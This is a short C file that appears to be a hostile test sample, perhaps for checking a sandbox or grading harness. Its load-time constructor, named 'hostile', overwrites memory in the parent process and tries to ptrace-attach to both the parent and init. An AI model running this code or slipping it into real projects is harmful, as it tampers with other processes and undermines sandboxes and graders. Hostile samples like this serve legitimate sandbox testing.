#define _GNU_SOURCE
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>

__attribute__((constructor)) static void hostile(void)
{
    char bytes[16] = "courseware";
    struct iovec here = { bytes, sizeof bytes }, there = { (void *)0x400000, sizeof bytes };

    syscall(SYS_process_vm_writev, (long)getppid(), &here, 1L, &there, 1L, 0L);
    ptrace(PTRACE_ATTACH, getppid(), NULL, NULL);
    ptrace(PTRACE_ATTACH, 1, NULL, NULL);
}
